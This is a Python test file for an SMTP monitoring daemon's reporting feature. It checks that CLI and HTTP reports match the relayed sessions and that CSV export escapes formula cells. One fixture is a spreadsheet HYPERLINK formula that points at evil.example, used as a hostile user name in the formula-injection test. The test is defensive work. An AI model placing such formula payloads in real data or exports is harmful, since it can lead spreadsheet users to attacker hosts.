"""Issue 6: the report from the store. Real sessions go through the daemon (smtplib
against Postfix's smtp-sink for inbound mail, and against the scripted server for real
AUTH results); then `smtp-sensor report` and GET /report (json and csv) must agree with
each other and with what was sent."""
import csv
import datetime
import io
import json
import smtplib
import urllib.error
import urllib.request

from harness import SLOW, run_cli
from scripted_server import Script
from sensor_util import sensor_config, wait_sessions_idle, wait_store_rows

COUNTERS = ["new_connections", "blocked_connections", "bad_commands", "terminations", "bandwidth_bytes", "messages"]


def get(sensor, path):
    """(status, headers, body) of GET path on the sensor's HTTP endpoint."""
    url = f"http://127.0.0.1:{sensor.http_port}{path}"
    try:
        with urllib.request.urlopen(url, timeout=20 * SLOW) as r:
            return r.status, dict(r.headers), r.read().decode("utf-8")
    except urllib.error.HTTPError as e:
        return e.code, dict(e.headers), e.read().decode("utf-8")


def cli(sensor, *args):
    return run_cli(["report", "-c", str(sensor.config_path), "--tz", "UTC", *args])


def by_key(rows, keyed):
    """Rows summed per key over the periods (the range spans three days, so a session
    near midnight may land on either side)."""
    out = {}
    for r in rows:
        k = r[1] if keyed else ""
        counts = r[2:8] if keyed else r[1:7]
        acc = out.setdefault(k, [0] * 6)
        for i, v in enumerate(counts):
            acc[i] += int(v)
    return out


def relay_sessions(sensor, up_port, mx_port):
    """Five sessions: two authenticated submissions by alice (one message each), one
    failed login, one inbound session with two messages for b.example, and one inbound
    session with a command the server rejects and no mail."""
    body = b"Subject: report test\r\n\r\n" + b"x" * 2000 + b"\r\n"
    for _ in range(2):
        with smtplib.SMTP("127.0.0.1", up_port, local_hostname="sub.test", source_address=("127.0.0.2", 0),
                          timeout=30 * SLOW) as s:
            s.login("alice@a.example", "pw")
            s.sendmail("alice@a.example", ["bob@elsewhere.example"], body)
    with smtplib.SMTP("127.0.0.1", up_port, local_hostname="sub.test", source_address=("127.0.0.2", 0),
                      timeout=30 * SLOW) as s:
        try:
            s.login("alice@a.example", "wrong")
            raise AssertionError("login with a wrong password succeeded")
        except smtplib.SMTPAuthenticationError:
            pass
    with smtplib.SMTP("127.0.0.1", mx_port, local_hostname="mx.sender.test", source_address=("127.0.0.3", 0),
                      timeout=30 * SLOW) as s:
        s.sendmail("x@sender.example", ["r1@b.example"], body)
        s.sendmail("x@sender.example", ["r2@b.example"], body)
    with smtplib.SMTP("127.0.0.1", mx_port, local_hostname="probe.test", source_address=("127.0.0.3", 0),
                      timeout=30 * SLOW) as s:
        code, _ = s.docmd("XYZZY")
        assert code >= 500, code
    return 4 * len(body)


def test_report_cli_and_http_agree_with_what_was_sent(sensor_factory, sink_factory, upstream_factory):
    sink = sink_factory()
    up = upstream_factory(Script(users={"alice@a.example": "pw"}))
    sensor = sensor_factory(listeners=[{"name": "mx", "upstream": sink.addr, "max_connections": 100},
                                       {"name": "sub", "upstream": up.addr, "max_connections": 100}],
                            config=sensor_config())
    mx, sub = sensor.listen_addr("mx")[1], sensor.listen_addr("sub")[1]
    sent_bytes = relay_sessions(sensor, sub, mx)
    wait_sessions_idle(sensor, 10)
    stored = wait_store_rows(sensor, 5)
    assert len(stored) == 5, stored

    today = datetime.datetime.now(datetime.timezone.utc).date()
    frm, to = (today - datetime.timedelta(days=1)).isoformat(), (today + datetime.timedelta(days=1)).isoformat()
    expect_trend = [5, 0, sum(r["bad_commands"] for r in stored),
                    sum((r["termination"] != "quit") + r["permanent_failures"] for r in stored),
                    sum(r["bytes_in"] + r["bytes_out"] for r in stored), 4]
    assert expect_trend[2] >= 1 and expect_trend[4] > sent_bytes, expect_trend

    expected = {
        "trend": {"": expect_trend},
        "domain": {"a.example": (2, 2), "b.example": (1, 2)},  # (sessions, messages)
        "user": {"alice@a.example": (2, 2)},                   # the failed login is left out
        "ip": {"127.0.0.2": (3, 2), "127.0.0.3": (2, 2)},
    }
    for mode, want in expected.items():
        keyed = mode != "trend"
        args = ["--from", frm, "--to", to, "--mode", mode]
        r = cli(sensor, *args, "--format", "json")
        assert r.returncode == 0, r.stderr
        doc = json.loads(r.stdout)
        assert doc["columns"][:1 + keyed] == ["period"] + ([mode] if keyed else [])
        assert doc["tz"] == "UTC" and doc["mode"] == mode and doc["from"] == frm and doc["to"] == to, doc
        got = by_key(doc["rows"], keyed)
        if mode == "trend":
            assert got[""] == expect_trend, (got, expect_trend)
            assert len(doc["rows"]) == 3  # every day, empty ones as zeros
        else:
            assert {k: (v[0], v[5]) for k, v in got.items()} == want, (mode, got)

        # GET /report: the same JSON document, byte for byte; CSV with the same rows.
        query = f"/report?from={frm}&to={to}&mode={mode}&tz=UTC"
        status, headers, body = get(sensor, query)
        assert status == 200 and headers["Content-Type"] == "application/json", (status, headers, body)
        assert body == r.stdout
        status, headers, body = get(sensor, query + "&format=csv")
        assert status == 200 and headers["Content-Type"] == "text/csv; charset=utf-8", headers
        assert headers["Content-Disposition"] == \
            f'attachment; filename="smtp-sensor-report-{frm}-{to}-day-{mode}.csv"', headers
        assert body.endswith("\r\n") and "\n" not in body.replace("\r\n", "")
        rows = list(csv.reader(io.StringIO(body, newline="")))
        assert rows[0] == doc["columns"]
        assert [row[:-1] for row in rows[1:]] == [[str(v) for v in row[:-1]] for row in doc["rows"]]
        assert [row[-1] for row in rows[1:]] == \
            ["" if row[-1] is None else f"{row[-2 - 5] / row[-2]:.2f}" for row in doc["rows"]]
        r_csv = cli(sensor, *args, "--format", "csv")
        # (run_cli reads text, which turns CRLF into LF)
        assert r_csv.returncode == 0 and r_csv.stdout == body.replace("\r\n", "\n"), r_csv

    # Drill-down, sorting and --top, over HTTP and the CLI alike.
    status, _, body = get(sensor, f"/report?from={frm}&to={to}&mode=user&domain=a.example&step=month")
    doc = json.loads(body)
    assert status == 200 and doc["domain"] == "a.example" and by_key(doc["rows"], True)["alice@a.example"][0] == 2
    status, _, body = get(sensor, f"/report?from={frm}&to={to}&mode=ip&sort=new_connections&top=1&step=month")
    doc = json.loads(body)
    assert doc["order"] == "desc" and [r[1] for r in doc["rows"]] == ["127.0.0.2"], doc
    r = cli(sensor, "--from", frm, "--to", to, "--mode", "domain", "--step", "week")
    assert r.returncode == 0 and "a.example" in r.stdout and "b.example" in r.stdout, r
    assert r.stdout.splitlines()[0].split() == ["period", "domain"] + COUNTERS + ["connections_per_message"]


def test_report_errors(sensor_factory, sink_factory, tmp_path):
    sink = sink_factory()
    sensor = sensor_factory(sink.addr, config=sensor_config())
    for query, fragment in [("step=quarter&from=2026-11-02&to=2026-11-30", "needs whole quarters"),
                            ("from=2026-11-23&to=2026-11-01", "empty range"),
                            ("sort=volume", "unknown column 'volume'"),
                            ("tz=Nowhere/Land", "unknown time zone"),
                            ("from=23.11.2026", "bad date")]:
        status, headers, body = get(sensor, "/report?" + query)
        assert status == 400 and headers["Content-Type"] == "application/json", (query, status, body)
        assert fragment in json.loads(body)["error"], (query, body)
        r = cli(sensor, *[a for kv in query.split("&") for a in ("--" + kv.split("=")[0], kv.split("=")[1])])
        assert r.returncode == 2 and r.stdout == "" and fragment in r.stderr, (query, r)
        assert len(r.stderr.strip().splitlines()) == 1, r.stderr

    missing = tmp_path / "none" / "sessions.db"
    r = run_cli(["report", "--store", str(missing)])
    assert r.returncode == 2 and "does not exist" in r.stderr, r
    assert not missing.exists() and not missing.parent.exists()

    off = sensor_factory(sink.addr, config=sensor_config(store={"enabled": False}))
    status, _, body = get(off, "/report")
    assert status == 503 and "no session store" in json.loads(body)["error"], body


HOSTILE = '=HYPERLINK("http://evil.example/?x","click")'


def test_report_csv_neutralises_formula_cells(sensor_factory, upstream_factory):
    """A user name from an SMTP peer that a spreadsheet would run as a formula: the CSV
    (CLI and GET /report) starts its cell with ' unless --csv-raw / csv_raw=1; --bom and
    bom=1 put a UTF-8 BOM first."""
    up = upstream_factory(Script(users={HOSTILE: "pw", "-1+2": "pw", "bob@a.example": "pw"}))
    sensor = sensor_factory(up.addr, config=sensor_config())
    port = sensor.listen_addr()[1]
    for user in [HOSTILE, "-1+2", "bob@a.example"]:
        with smtplib.SMTP("127.0.0.1", port, local_hostname="sub.test", timeout=30 * SLOW) as s:
            s.login(user, "pw")
    wait_sessions_idle(sensor, 10)
    wait_store_rows(sensor, 3)

    today = datetime.datetime.now(datetime.timezone.utc).date().isoformat()
    args = ["--from", today, "--to", today, "--mode", "user", "--format", "csv"]

    def users(text):
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert rows[0][:2] == ["period", "user"], rows
        return sorted(r[1] for r in rows[1:])

    safe = sorted(["'" + HOSTILE, "'-1+2", "bob@a.example"])
    raw = sorted([HOSTILE, "-1+2", "bob@a.example"])
    r = cli(sensor, *args)
    assert r.returncode == 0, r.stderr
    assert users(r.stdout) == safe and not r.stdout.startswith("\ufeff"), r.stdout
    r = cli(sensor, *args, "--csv-raw")
    assert r.returncode == 0 and users(r.stdout) == raw, r
    r = cli(sensor, *args, "--bom")
    assert r.returncode == 0 and r.stdout.startswith("\ufeffperiod,") and users(r.stdout[1:]) == safe, r

    query = f"/report?from={today}&to={today}&mode=user&tz=UTC&format=csv"
    status, _, body = get(sensor, query)
    assert status == 200 and users(body) == safe, body
    status, _, body = get(sensor, query + "&csv_raw=1")
    assert status == 200 and users(body) == raw, body
    # What the page's download asks for.
    status, _, body = get(sensor, query + "&bom=1")
    assert status == 200 and body.startswith("\ufeffperiod,") and users(body[1:]) == safe, body

    r = cli(sensor, "--from", today, "--to", today, "--bom")
    assert r.returncode == 2 and "--bom applies to --format csv only" in r.stderr, r
